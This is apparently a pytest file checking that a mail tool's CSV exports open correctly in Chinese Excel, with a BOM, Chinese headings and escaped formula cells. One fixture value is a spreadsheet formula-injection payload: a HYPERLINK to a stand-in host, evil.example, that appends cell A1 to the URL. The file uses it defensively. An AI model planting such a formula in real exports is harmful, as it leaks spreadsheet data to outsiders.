"""CSV that opens in Chinese Excel: read back as Excel on a GB18030 machine would read it.

GIVEN items recorded through the pipeline, one of them with a formula for a subject
WHEN `submissions`/`tally` write CSV (to a pipe, or with --output), on a GB18030 terminal too
THEN the bytes are UTF-8 behind a BOM (Excel's cue; never re-encoded to GB), the headings are
Chinese (`--header ids`: the English keys), a formula is text, and no cell holds a Python dict.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest

from tests.helpers_records import feed, make_runtime, write_config

ALPHA = "alpha@alpha.example.gov.cn"
BOM = b"\xef\xbb\xbf"
BODY = ("2月3日，甲市召开全市卫生工作会议，总结2025年工作，部署2026年重点任务。会议要求各地加强基层医疗卫生服务能力建设，"
        "推进紧密型县域医共体建设，确保各项任务落到实处。")
EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")'


@pytest.fixture
def cfg(tmp_path):
    path = write_config(tmp_path)
    rt = make_runtime(path, now="2026-02-10 09:00")
    feed(rt, ALPHA, "甲市召开全市卫生工作会议", BODY, "2026-02-03 10:00")
    feed(rt, ALPHA, EVIL, "2月4日，甲市卫生局组织开展春节期间食品安全和医疗机构安全生产检查，共检查医疗机构43家，"
         "发现问题隐患12处，已当场督促整改9处，其余限期整改。", "2026-02-04 10:00")
    feed(rt, "beta@beta.example.gov.cn", "-2+3 乙市卫生数据", BODY.replace("甲市", "乙市"), "2026-02-05 10:00")
    rt.close()
    return path


def mailbot(cfg, *args: str, **env: str) -> bytes:
    """The installed command as a script runs it, stdout a pipe; ``env`` e.g. a GB18030 locale."""
    p = subprocess.run([sys.executable, "-m", "mailbot", "--config", str(cfg), *args], capture_output=True,
                       env={**os.environ, **env}, timeout=120)
    assert p.returncode == 0, p.stderr.decode("utf-8", "replace")
    return p.stdout


def excel_rows(data: bytes) -> list[list[str]]:
    """What Excel does with a CSV: a UTF-8 BOM means UTF-8, whatever the machine's code page."""
    assert data.startswith(BOM), data[:20]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


GB = {"PYTHONIOENCODING": "gb18030", "LANG": "zh_CN.GB18030", "LC_ALL": "zh_CN.GB18030"}


def test_submissions_csv_on_a_gb18030_machine(cfg):
    data = mailbot(cfg, "submissions", "--format", "csv", **GB)
    rows = excel_rows(data)
    head, body = rows[0], rows[1:]
    # Chinese headings; units, statuses and categories by name, the ids beside them
    assert head[:4] == ["回执号", "收到时间", "单位ID", "单位"] and "状态" in head and "读信情况" in head
    cells = {r[0]: dict(zip(head, r, strict=True)) for r in body}
    assert {c["单位"] for c in cells.values()} == {"甲市卫生局", "乙市卫生局"}
    assert {c["状态"] for c in cells.values()} == {"已计分"} and {c["状态ID"] for c in cells.values()} == {"accepted"}
    # the bytes are UTF-8, not re-encoded for the GB terminal: read as GB18030 they are not the same text
    assert "甲市卫生局".encode() in data and "甲市卫生局".encode("gb18030") not in data
    # a formula is text, shown as typed: Excel runs nothing
    [evil] = [c for c in cells.values() if "HYPERLINK" in c["标题"]]
    assert evil["标题"] == "'" + EVIL
    [minus] = [c for c in cells.values() if "乙市卫生数据" in c["标题"]]
    assert minus["标题"].startswith("'-2+3")
    assert not any(v.startswith(("=", "+", "-", "@")) for c in cells.values() for v in c.values() if v)
    # how each message was read, in words, not a Python dict
    for c in cells.values():
        assert c["读信情况"].startswith("编码 ") and "{" not in c["读信情况"] and "'" not in c["读信情况"]


def test_header_ids_keeps_the_scripts_keys(cfg):
    rows = excel_rows(mailbot(cfg, "submissions", "--format", "csv", "--header", "ids"))
    assert rows[0][:6] == ["receipt", "received_at", "unit", "unit_name", "sender_name", "sender"]
    assert "reading" in rows[0] and "status" in rows[0]
    by = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert {r["unit"] for r in by.values()} == {"alpha", "beta"} and {r["status"] for r in by.values()} == {"accepted"}


def test_tally_csv_written_to_a_file_is_the_same_bytes(cfg, tmp_path):
    piped = mailbot(cfg, "tally", "--period", "2026Q1", "--format", "csv", **GB)
    mailbot(cfg, "tally", "--period", "2026Q1", "--format", "csv", "--output", str(tmp_path / "通报.csv"))
    assert (tmp_path / "通报.csv").read_bytes() == piped
    rows = excel_rows(piped)
    assert rows[0][:4] == ["单位ID", "单位", "类别ID", "单位类别"] and "得分" in rows[0]
    scores = {r[1]: r[rows[0].index("得分")] for r in rows[1:]}
    assert scores == {"甲市卫生局": "4", "乙市卫生局": "2", "厅办公室": "0"}
    # CRLF line ends, as Excel writes them
    assert piped.count(b"\r\n") == len(rows)
